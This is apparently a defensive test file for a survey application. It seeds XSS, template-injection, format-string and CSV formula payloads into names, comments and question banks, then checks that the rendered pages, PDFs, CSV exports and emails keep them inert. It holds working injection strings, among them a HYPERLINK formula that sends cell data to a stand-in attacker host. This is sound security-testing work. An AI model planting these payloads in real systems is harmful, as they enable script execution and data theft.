"""An XSS / template-injection corpus through every output: HTML, PDF, CSV and email.

Payloads go where people (or an org-chart file, or a custom question bank) can type:
employee names, departments, the cycle name, rater comments (posted through the survey
form) and the texts of a custom bank saved through ``surveys.bank_store.save_bank``.
Each output must show them as text: HTML escaped (no live ``<script``, ``onerror=``,
``<svg onload``, ``javascript:`` link), templates never evaluated (``{{7*7}}`` does not
become ``49``), CSV cells that a spreadsheet would run as a formula neutralised.
Rendering does not depend on the database, so this runs on SQLite only.
"""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest
import yaml
from sqlalchemy import select

from surveys import bank_store, cycles
from surveys.banks import BankError
from surveys.csv_safety import FORMULA_PREFIXES
from surveys.models import OutboxMessage, Participant
from surveys.releases import release_cycle
from surveys.reports import build_report
from tests import factories as f
from tests.security import world as w
from tests.webapp.console import sign_in
from tests.webapp.test_report_links import report_links
from tests.webapp.test_reports import pdf_text
from webapp.reports.render import report_html, report_pdf

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
SVG = "</textarea><svg onload=alert(1)>"
JS = "javascript:alert(1)"
TEMPLATE = "Tpl{{7*7}}Name"  # evaluated, it would read Tpl49Name
RTL = "Evil\u202egnp.exe"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
LONG = "L" * 190 + SCRIPT[:10]

#: How the payloads look once escaped (at least one must show, or the page tested nothing).
ESCAPED = ("&lt;script&gt;alert(1)", "&lt;img src=x", "&lt;svg onload", TEMPLATE)


class _LiveMarkup(HTMLParser):
    """Collects what a browser would run: inline scripts, event handlers, js: URLs, svg."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("iframe", "object", "embed"):  # (charts are legitimate <svg>)
            self.found.append(f"<{tag}>")
        if tag == "script":
            self._in_script = not any(name == "src" for name, _ in attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=…>")
            if name in ("href", "src", "action", "formaction") and (
                value or ""
            ).strip().lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}={value}>")
            if tag == "img" and name == "src" and value == "x":
                self.found.append("<img src=x>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.found.append(f"inline script {data.strip()[:40]!r}")


def assert_safe_html(html: str, where: str, *, expect_payload: bool = True) -> None:
    parser = _LiveMarkup()
    parser.feed(html)
    assert not parser.found, f"{where}: live markup from a payload: {parser.found}"
    assert "tpl49name" not in html.lower(), f"{where}: a template was evaluated"
    if expect_payload:
        shown = [e for e in ESCAPED if e.lower() in html.lower()]
        assert shown, f"{where}: no payload shown at all, so nothing was tested"


def assert_safe_csv(text: str, where: str) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    assert rows, where
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_PREFIXES):
                assert re.fullmatch(r"[+-]?[\d.]+(?:[eE][+-]?\d+)?", cell), f"{where}: {cell!r}"
    assert "Tpl49Name" not in text


def _evil_bank_text() -> str:
    """The pulse bank with payloads in its title, a competency, an item and a question."""
    source = bank_store.bank_source(None, "pulse")  # bundled: read from the file
    data = yaml.safe_load(source)
    data["key"] = "evil_bank"
    data["title"] = f"Bank {SCRIPT} {TEMPLATE}"
    data["description"] = f"{SVG} {JS}"
    data["competencies"][0]["title"] = f"Comp {IMG}"
    data["competencies"][0]["items"][0]["others"] = "{name} " + SVG
    data["competencies"][0]["items"][0]["self"] = "I " + SCRIPT
    data["open_questions"][0]["others"] = "Question for {name}: " + SCRIPT
    data.pop("translations", None)
    return yaml.safe_dump(data, sort_keys=False, allow_unicode=True)


def _answer(client, token: str, bank, comment: str, *, submit: bool = True) -> None:
    """Fill in a survey through the web form: every item 4, ``comment`` in each question."""
    assert client.get(f"/s/{token}").status_code == 200
    data = {f"r:{item.id}": "4" for item in bank.items}
    data.update({f"c:{q.id}": comment for q in bank.open_questions})
    data["action"] = "submit" if submit else "save"
    reply = client.post(f"/s/{token}", data=data)
    assert reply.status_code in (302, 303), reply.get_data(as_text=True)[:500]


@pytest.fixture
def evil(app, session, database_url):
    """A released cycle full of payloads, plus an open one with a payload draft."""
    w.sqlite_only(database_url)
    bank = bank_store.save_bank(session, _evil_bank_text())
    boss = f.employee(session, "X0", SCRIPT, department=IMG)
    names = [IMG, TEMPLATE, SVG, JS, RTL, FORMULA, LONG]
    team = [
        f.employee(session, f"X{i}", name, boss, f"=1+1 {SCRIPT}" if i % 2 else FORMULA)
        for i, name in enumerate(names, start=1)
    ]
    cycle = cycles.create_cycle(
        session,
        name=f"Cycle {SCRIPT} {TEMPLATE}",
        bank=bank,
        participants=[team[0], team[5]],  # IMG and FORMULA
        settings={"peer_min": 3, "peer_max": 3},
    )
    cycles.launch_cycle(session, cycle, base_url=f.BASE_URL)
    session.commit()
    client = app.test_client()
    comments = [SCRIPT, IMG, SVG, TEMPLATE, JS, FORMULA, RTL, "@SUM(A1:A9)"]
    for k, token in enumerate(f.links(session, "s")):
        _answer(client, token, bank, f"{comments[k % len(comments)]} #{k}")
    participant = session.scalar(
        select(Participant).where(Participant.cycle_id == cycle.id).order_by(Participant.id)
    )
    # An open cycle where a rater has a payload saved as a draft (shown back in a textarea).
    other = cycles.create_cycle(
        session,
        name=f"Open {SVG}",
        bank=bank,
        participants=[team[2]],
        settings={"peer_min": 2, "peer_max": 4},
    )
    cycles.launch_cycle(session, other, base_url=f.BASE_URL)
    session.commit()
    draft_token = f.token_for(session, team[2], "self")
    _answer(client, draft_token, bank, f"{SVG} {SCRIPT} {TEMPLATE}", submit=False)
    return SimpleNamespace(
        cycle=cycle, open=other, participant=participant, draft_token=draft_token, bank=bank
    )


def test_survey_pages_escape_names_bank_texts_and_drafts(app, session, evil):
    client = app.test_client()
    for section in range(len(evil.bank.competencies) + 1):
        page = client.get(f"/s/{evil.draft_token}?section={section}")
        assert page.status_code == 200
        assert_safe_html(page.get_data(as_text=True), f"survey section {section}")
    last = client.get(f"/s/{evil.draft_token}?section={len(evil.bank.competencies)}")
    # The draft comment is shown back inside its textarea, escaped.
    assert "&lt;/textarea&gt;&lt;svg onload=alert(1)&gt;" in last.get_data(as_text=True)


def test_console_pages_escape_everything(app, session, evil):
    client = app.test_client()
    sign_in(app, client, "xss-admin@example.com")
    # An audited action, so the audit log shows the cycle's name too.
    closed = client.post(f"/admin/cycles/{evil.open.id}/close", data={"confirm": "y"})
    assert closed.status_code in (302, 303)
    urls = [
        "/admin/",
        "/admin/people",
        "/admin/people?q=" + "%3Cscript%3Ealert(1)%3C/script%3E",
        f"/admin/cycles/{evil.cycle.id}",
        f"/admin/cycles/{evil.open.id}",
        "/admin/banks",
        "/admin/banks/evil_bank",
        "/admin/audit",
        "/dev/outbox",
    ]
    for url in urls:
        page = client.get(url)
        assert page.status_code == 200, url
        assert_safe_html(page.get_data(as_text=True), url)


def test_reports_escape_names_comments_and_bank_texts(app, session, evil):
    cycles.close_cycle(session, evil.cycle)
    release_cycle(session, evil.cycle, base_url=f.BASE_URL)
    session.commit()
    client = app.test_client()
    for token in report_links(session).values():
        page = client.get(f"/r/{token}")
        assert page.status_code == 200
        assert_safe_html(page.get_data(as_text=True), "report page")
    with app.test_request_context():
        html = report_html(build_report(session, evil.participant))
        assert_safe_html(html, "report_html")
        text = pdf_text(report_pdf(build_report(session, evil.participant), app))
    assert "Tpl49Name" not in text
    assert "<script>alert(1)</script>" in text  # shown as the text it is, not swallowed


def test_csv_exports_neutralise_formulas(app, session, evil):
    cycles.close_cycle(session, evil.cycle)
    session.commit()
    client = app.test_client()
    sign_in(app, client, "xss-admin@example.com")
    for name in ("response-rates", "scores"):
        reply = client.post(f"/admin/cycles/{evil.cycle.id}/export/{name}.csv")
        assert reply.status_code == 200, name
        text = reply.get_data(as_text=True)
        assert_safe_csv(text, name)
        if name == "response-rates":
            assert "'=HYPERLINK(" in text  # the participant's name, shown but inert


def test_emails_are_plain_text_and_never_evaluated(app, session, evil):
    cycles.close_cycle(session, evil.cycle)
    release_cycle(session, evil.cycle, base_url=f.BASE_URL)
    session.commit()
    messages = session.scalars(select(OutboxMessage)).all()
    assert messages
    bodies = "\n".join(m.body or "" for m in messages)
    assert "Tpl49Name" not in bodies
    assert TEMPLATE in bodies  # names are written as typed (plain text, nothing to escape)
    for m in messages:
        assert "\n" not in m.subject
        assert "\r" not in m.subject


@pytest.mark.parametrize(
    "text",
    [
        "{name.__class__.__mro__}",
        "{name!r:>{9999999}}",
        "{0}",
        "{name} {__import__}",
    ],
)
def test_bank_texts_admit_no_format_fields_but_name(session, database_url, text):
    """Bank texts go through str.format(name=…): any other field would be code execution."""
    w.sqlite_only(database_url)
    source = _evil_bank_text().replace("key: evil_bank", "key: fmt_bank")
    data = yaml.safe_load(source)
    data["competencies"][0]["items"][1]["others"] = text
    with pytest.raises(BankError):
        bank_store.save_bank(session, yaml.safe_dump(data, sort_keys=False))
